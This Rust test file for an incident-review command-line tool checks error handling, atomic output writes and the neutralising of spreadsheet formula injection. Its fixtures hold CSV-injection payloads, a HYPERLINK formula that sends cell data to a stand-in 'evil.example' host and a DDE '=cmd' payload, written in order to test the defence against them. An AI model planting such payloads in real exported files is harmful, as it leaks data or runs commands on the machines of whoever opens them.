//! Inputs and outputs a user can trust (issue 8): unreadable named inputs, CSV cells safe to
//! open in a spreadsheet, one run's whole output set (killed runs, concurrent runs), file
//! modes, warnings written out, outputs refused inside inputs, unreadable records in `check`,
//! undated incidents in the review.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Instant;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn command(args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_recur"));
    command.args(args).current_dir(root());
    command
}

fn recur(args: &[&str]) -> Output {
    command(args).output().expect("run recur")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn utf8(path: &Path) -> &str {
    path.to_str().expect("utf-8 path")
}

/// Incidents a spreadsheet would misread (formulas), one undated incident, one bad severity.
const EXTRA_CSV: &str = "\
id,title,severity,started_at,resolved_at,services,owner,summary,root_cause
X-1,=HYPERLINK(\"http://evil.example/?\"&A1),2,2026-10-03T10:00:00Z,2026-10-03T12:00:00Z,@api,+owner,-starts with a minus,disk full on the api hosts
X-2,Undated disk outage,3,,,api,ana,the disk filled up,log rotation was off
X-3,Bad severity,catastrophic-ish,2026-10-04T10:00:00Z,,api,ana,x,y
";

/// A review of the bundled sample's incidents and follow-ups plus `extra`.
fn review_args<'a>(extra: &'a str, out: &'a str) -> Vec<&'a str> {
    vec![
        "review",
        "data/sample/incidents.csv",
        extra,
        "--follow-ups",
        "data/sample/follow_ups.csv",
        "--as-of",
        "2026-11-01",
        "--out",
        out,
    ]
}

fn write_extra(dir: &Path) -> PathBuf {
    let path = dir.join("extra.csv");
    std::fs::write(&path, EXTRA_CSV).expect("write fixture");
    path
}

#[test]
fn a_missing_named_input_is_an_error_for_every_command() {
    let dir = tempfile::tempdir().expect("tempdir");
    let missing = dir.path().join("nope.csv");
    let missing = utf8(&missing);
    let out = dir.path().join("out");
    let table = dir.path().join("t.csv");
    let cases: Vec<Vec<&str>> = vec![
        vec![
            "review",
            "data/sample/incidents.csv",
            "--follow-ups",
            missing,
            "--out",
            utf8(&out),
        ],
        vec!["review", "--roster", missing, "--out", utf8(&out)],
        vec!["review", "--mapping", missing, "--out", utf8(&out)],
        vec!["review", missing, "--out", utf8(&out)],
        vec![
            "normalize",
            "data/sample/incidents.csv",
            "--follow-ups",
            missing,
            "--out",
            utf8(&table),
        ],
        vec![
            "followups",
            "data/sample/incidents.csv",
            "--follow-ups",
            missing,
            "--as-of",
            "2026-11-01",
            "--fail-on-overdue",
        ],
        vec!["followups", "--roster", missing],
        vec!["check", "data/sample/postmortems", "--rules", missing],
        vec!["check", "data/sample/postmortems", missing],
        vec![
            "similar",
            "data/sample/incidents.csv",
            "--id",
            "INC-1001",
            "--follow-ups",
            missing,
        ],
    ];
    for args in cases {
        let output = recur(&args);
        let stderr = text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(
            stderr.contains("nope.csv") && stderr.contains("--keep-going"),
            "{args:?} names the file and the way out: {stderr}"
        );
    }
    assert!(!out.exists() && !table.exists(), "nothing written");
}

#[test]
fn with_keep_going_the_review_goes_on_and_says_what_is_missing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("out");
    let missing = dir.path().join("follow-ups-missing.csv");
    let output = recur(&[
        "review",
        "data/sample/incidents.csv",
        "--follow-ups",
        utf8(&missing),
        "--as-of",
        "2026-11-01",
        "--keep-going",
        "--out",
        utf8(&out),
    ]);
    let stderr = text(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    assert!(
        stderr.contains("INCOMPLETE: 1 input(s) could not be read")
            && stderr.contains("follow-ups-missing.csv"),
        "{stderr}"
    );
    let markdown = std::fs::read_to_string(out.join("report.md")).expect("report.md");
    let banner = markdown
        .find("**Incomplete review: 1 input(s) could not be read**")
        .expect("banner");
    assert!(
        banner < markdown.find("## Headline").expect("headline"),
        "at the top"
    );
    assert!(markdown.contains("follow-ups-missing.csv"));
    let html = std::fs::read_to_string(out.join("report.html")).expect("report.html");
    assert!(html.contains("Incomplete review"));
    let json: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(out.join("report.json")).expect("report.json"),
    )
    .expect("json");
    let unreadable = json["input"]["unreadable"].as_array().expect("list");
    assert_eq!(unreadable.len(), 1);
    assert!(
        unreadable[0]["file"]
            .as_str()
            .is_some_and(|f| f.ends_with("follow-ups-missing.csv"))
    );
    assert_eq!(json["input"]["unreadable_files"], 1);

    let gate = recur(&[
        "followups",
        "data/sample/incidents.csv",
        "--follow-ups",
        utf8(&missing),
        "--keep-going",
        "--as-of",
        "2026-11-01",
    ]);
    assert!(gate.status.success(), "{}", text(&gate.stderr));
    assert!(text(&gate.stderr).contains("INCOMPLETE: 1 input(s)"));
}

#[test]
fn csv_cells_a_spreadsheet_would_evaluate_are_neutralised_in_every_csv() {
    let dir = tempfile::tempdir().expect("tempdir");
    let extra = write_extra(dir.path());
    let table = dir.path().join("t.csv");
    let output = recur(&["normalize", utf8(&extra), "--out", utf8(&table)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let csv = std::fs::read_to_string(&table).expect("table");
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"")
            && csv.contains(",'@api,")
            && csv.contains(",'+owner,")
            && csv.contains(",'-starts with a minus,"),
        "{csv}"
    );
    assert!(
        !csv.contains(",=") && !csv.contains(",@") && !csv.contains(",+"),
        "{csv}"
    );
    let rejected = std::fs::read_to_string(dir.path().join("t.rejected.csv")).expect("rejected");
    assert!(rejected.contains("catastrophic-ish"), "{rejected}");

    // JSON Lines keeps the raw value.
    let jsonl = dir.path().join("t.jsonl");
    let output = recur(&["normalize", utf8(&extra), "--out", utf8(&jsonl)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let lines = std::fs::read_to_string(&jsonl).expect("jsonl");
    assert!(lines.contains("\"title\":\"=HYPERLINK("), "{lines}");

    // A follow-up titled like a formula, in the follow-ups table and `followups --format csv`.
    let incidents = dir.path().join("incidents.csv");
    std::fs::write(
        &incidents,
        "id,title,severity,started_at\nA-1,disk full,2,2026-01-03T10:00:00Z\nA-2,disk full again,2,2026-02-03T10:00:00Z\n",
    )
    .expect("write");
    let follow_ups = dir.path().join("follow_ups.csv");
    std::fs::write(
        &follow_ups,
        "incident_id,id,title,owner,status,due_at\nA-1,F-1,=cmd|' /C calc'!A0,-bo,open,2026-03-01\n",
    )
    .expect("write");
    let output = recur(&[
        "normalize",
        utf8(&incidents),
        "--follow-ups",
        utf8(&follow_ups),
        "--out",
        utf8(&table),
    ]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let table_follow_ups =
        std::fs::read_to_string(dir.path().join("t.follow_ups.csv")).expect("follow-ups");
    assert!(
        table_follow_ups.contains(",'=cmd|' /C calc'!A0,'-bo,"),
        "{table_follow_ups}"
    );
    let output = recur(&[
        "followups",
        utf8(&incidents),
        "--follow-ups",
        utf8(&follow_ups),
        "--as-of",
        "2026-11-01",
        "--format",
        "csv",
    ]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let stdout = text(&output.stdout);
    assert!(
        stdout.contains("F-1,A-1,'=cmd|' /C calc'!A0,'-bo,") && stdout.contains(",245,"),
        "numbers stay numbers: {stdout}"
    );
}

/// Every file under `dir`, by relative path.
fn snapshot(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(folder) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&folder) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if let Ok(bytes) = std::fs::read(&path) {
                let relative = path
                    .strip_prefix(dir)
                    .expect("prefix")
                    .display()
                    .to_string();
                files.insert(relative, bytes);
            }
        }
    }
    files
}

fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("list")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn a_review_killed_at_any_point_leaves_one_runs_whole_set_and_the_next_run_cleans_up() {
    let dir = tempfile::tempdir().expect("tempdir");
    let run = |as_of: &str, out: &Path| {
        command(&[
            "review",
            "data/sample/incidents.csv",
            "--as-of",
            as_of,
            "--out",
            utf8(out),
        ])
    };
    // The two complete sets, each written once without interruption.
    let reference_a = dir.path().join("a");
    let reference_b = dir.path().join("b");
    let started = Instant::now();
    let status = run("2026-11-01", &reference_a).status().expect("run");
    let full_run = started.elapsed();
    assert!(status.success());
    assert!(
        run("2026-12-01", &reference_b)
            .status()
            .expect("run")
            .success()
    );
    let set_a = snapshot(&reference_a);
    let set_b = snapshot(&reference_b);
    assert!(set_a != set_b && set_a.contains_key("report.json"));

    let parent = dir.path().join("site");
    std::fs::create_dir(&parent).expect("mkdir");
    let out = parent.join("review");
    assert!(run("2026-11-01", &out).status().expect("run").success());
    // Kill runs at points spread over a run, alternating the two sets.
    for step in 1..=8u32 {
        let as_of = if step % 2 == 1 {
            "2026-12-01"
        } else {
            "2026-11-01"
        };
        let mut child = run(as_of, &out)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn");
        std::thread::sleep(full_run * step / 9);
        let _ = child.kill();
        let _ = child.wait();
        let now = snapshot(&out);
        assert!(
            now == set_a || now == set_b,
            "killed at step {step}: {:?} is neither set",
            now.keys().collect::<Vec<_>>()
        );
    }
    assert!(run("2026-12-01", &out).status().expect("run").success());
    assert_eq!(snapshot(&out), set_b);
    assert_eq!(
        names(&parent),
        [".review.lock", "review"],
        "no staging folder or temporary file left"
    );
}

#[test]
fn a_second_run_on_the_same_out_fails_clearly_while_the_first_holds_it() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("review");
    let lock = std::fs::File::create(dir.path().join(".review.lock")).expect("lock file");
    lock.try_lock().expect("lock");
    let output = recur(&["review", "--as-of", "2026-11-01", "--out", utf8(&out)]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        text(&output.stderr).contains("another recur run is writing"),
        "{}",
        text(&output.stderr)
    );
    assert!(!out.exists());
    drop(lock);
    let table = dir.path().join("t.csv");
    let held = std::fs::File::create(dir.path().join(".t.csv.lock")).expect("lock file");
    held.try_lock().expect("lock");
    let output = recur(&[
        "normalize",
        "data/sample/incidents.csv",
        "--out",
        utf8(&table),
    ]);
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output.stderr).contains("another recur run is writing"));
}

#[test]
fn normalize_replaces_its_whole_set_and_removes_what_killed_runs_left() {
    let dir = tempfile::tempdir().expect("tempdir");
    let table = dir.path().join("t.csv");
    std::fs::write(dir.path().join(".t.csv.tmp-1-0"), "half a table").expect("write");
    let output = recur(&[
        "normalize",
        "data/sample/incidents.csv",
        "--out",
        utf8(&table),
    ]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert_eq!(
        names(dir.path()),
        [
            ".t.csv.lock",
            "t.csv",
            "t.follow_ups.csv",
            "t.merges.csv",
            "t.rejected.csv",
            "t.warnings.csv"
        ]
    );
}

#[cfg(unix)]
#[test]
fn outputs_get_the_usual_mode_under_the_umask() {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = |path: &Path| {
        std::fs::metadata(path)
            .expect("metadata")
            .permissions()
            .mode()
            & 0o777
    };
    for (umask, file_mode, dir_mode) in [("022", 0o644, 0o755), ("077", 0o600, 0o700)] {
        let dir = tempfile::tempdir().expect("tempdir");
        let out = dir.path().join("review");
        let table = dir.path().join("t.parquet");
        let template = dir.path().join("t.md");
        let script = format!(
            "umask {umask} && \"$0\" review data/sample/incidents.csv --as-of 2026-11-01 --out {} \
             && \"$0\" normalize data/sample/incidents.csv --out {} && \"$0\" template --out {}",
            utf8(&out),
            utf8(&table),
            utf8(&template)
        );
        let output = Command::new("sh")
            .arg("-c")
            .arg(&script)
            .arg(env!("CARGO_BIN_EXE_recur"))
            .current_dir(root())
            .output()
            .expect("sh");
        assert!(output.status.success(), "{}", text(&output.stderr));
        for file in [
            out.join("report.json"),
            out.join("report.html"),
            out.join("charts/severity_mix.png"),
            out.join("incidents.parquet"),
            table.clone(),
            dir.path().join("t.rejected.csv"),
            template.clone(),
        ] {
            assert_eq!(mode(&file), file_mode, "umask {umask}: {}", file.display());
        }
        assert_eq!(mode(&out), dir_mode, "umask {umask}: the folder");
        assert_eq!(
            mode(&out.join("charts")),
            dir_mode,
            "umask {umask}: charts/"
        );
    }
}

#[test]
fn every_warning_is_written_out_and_the_console_says_where() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("out");
    // Each id twice: a merge warning per id, more than the console shows.
    let duplicates = dir.path().join("duplicates.csv");
    let mut rows = String::from("id,title,severity,started_at\n");
    for n in 0..12 {
        for _ in 0..2 {
            rows.push_str(&format!(
                "D-{n},disk =full,3,2026-10-{:02}T10:00:00Z\n",
                n + 1
            ));
        }
    }
    std::fs::write(&duplicates, rows).expect("write");
    let output = recur(&[
        "review",
        "data/sample/incidents.csv",
        utf8(&duplicates),
        "--as-of",
        "2026-11-01",
        "--out",
        utf8(&out),
    ]);
    let stderr = text(&output.stderr);
    assert!(output.status.success(), "{stderr}");
    let json: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(out.join("report.json")).expect("report.json"),
    )
    .expect("json");
    let warnings = json["input"]["warnings"].as_u64().expect("count") as usize;
    assert!(
        warnings > 10,
        "the sample raises more warnings than the console shows"
    );
    let mut reader = csv::Reader::from_path(out.join("warnings.csv")).expect("warnings.csv");
    assert_eq!(
        reader.headers().expect("header").iter().collect::<Vec<_>>(),
        ["file", "record", "line", "field", "message"]
    );
    assert_eq!(reader.records().count(), warnings);
    assert_eq!(
        stderr
            .lines()
            .filter(|l| l.starts_with("warning: "))
            .count(),
        11,
        "ten shown, then where the rest are: {stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "more (all listed in {})",
            out.join("warnings.csv").display()
        )),
        "{stderr}"
    );
}

#[test]
fn an_out_inside_an_input_folder_or_on_an_input_is_refused() {
    let dir = tempfile::tempdir().expect("tempdir");
    let postmortems = dir.path().join("postmortems");
    std::fs::create_dir(&postmortems).expect("mkdir");
    std::fs::write(
        postmortems.join("a.md"),
        "---\nid: A-1\ntitle: disk full\nstarted_at: 2026-01-01T00:00:00Z\n---\n",
    )
    .expect("write");
    let inside = postmortems.join("review");
    let output = recur(&["review", utf8(&postmortems), "--out", utf8(&inside)]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        text(&output.stderr).contains("is inside the input folder"),
        "{}",
        text(&output.stderr)
    );
    assert!(!inside.exists());
    let extra = write_extra(dir.path());
    for out in [extra.clone(), postmortems.join("t.csv")] {
        let output = recur(&[
            "normalize",
            utf8(&extra),
            utf8(&postmortems),
            "--out",
            utf8(&out),
        ]);
        assert_eq!(output.status.code(), Some(2), "{}", out.display());
    }
    let renamed_table = dir.path().join("extra.jsonl");
    let output = recur(&["normalize", utf8(&extra), "--out", utf8(&renamed_table)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert_eq!(
        std::fs::read_to_string(&extra).expect("input"),
        EXTRA_CSV,
        "the input is untouched"
    );
}

#[test]
fn check_reports_an_unreadable_record_in_every_format_and_strict_fails() {
    let dir = tempfile::tempdir().expect("tempdir");
    let bad = dir.path().join("bad.csv");
    std::fs::write(
        &bad,
        "id,title,severity,started_at\nB-1,disk full,catastrophic-ish,2026-10-04T10:00:00Z\n",
    )
    .expect("write");
    let output = recur(&["check", utf8(&bad), "--strict"]);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    let stdout = text(&output.stdout);
    assert!(
        stdout.contains("B-1 (") && stdout.contains("): unreadable"),
        "{stdout}"
    );
    assert!(
        stdout.ends_with("1 report checked: 0 complete, 1 to send back (1 finding)\n"),
        "{stdout}"
    );
    let output = recur(&["check", utf8(&bad), "--format", "json"]);
    assert!(output.status.success(), "without --strict the exit is 0");
    let findings: serde_json::Value = serde_json::from_str(&text(&output.stdout)).expect("json");
    assert_eq!(findings[0]["rule"], "unreadable");
    assert_eq!(findings[0]["incident_id"], "B-1");
    assert_eq!(findings[0]["source"]["line"], 2);
    let output = recur(&["check", utf8(&bad), "--format", "github", "--strict"]);
    assert_eq!(output.status.code(), Some(1));
    let stdout = text(&output.stdout);
    assert!(
        stdout.starts_with("::error file=") && stdout.contains("catastrophic-ish"),
        "{stdout}"
    );
}

#[test]
fn undated_incidents_are_counted_and_listed_in_the_review() {
    let dir = tempfile::tempdir().expect("tempdir");
    let extra = write_extra(dir.path());
    let out = dir.path().join("out");
    let out = utf8(&out).to_owned();
    let output = recur(&review_args(utf8(&extra), &out));
    assert!(output.status.success(), "{}", text(&output.stderr));
    let out = Path::new(&out);
    let markdown = std::fs::read_to_string(out.join("report.md")).expect("report.md");
    assert!(
        markdown.contains("## Undated incidents\n\n1 incidents have no usable start"),
        "{markdown}"
    );
    assert!(markdown.contains("- **X-2** Undated disk outage ("));
    let json: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(out.join("report.json")).expect("report.json"),
    )
    .expect("json");
    assert_eq!(json["undated"]["count"], 1);
    assert_eq!(json["undated"]["incident_ids"][0], "X-2");
    // The review's tables are neutralised too.
    let csv = std::fs::read_to_string(out.join("incidents.csv")).expect("incidents.csv");
    assert!(csv.contains("\"'=HYPERLINK("), "{}", &csv[..200]);
}
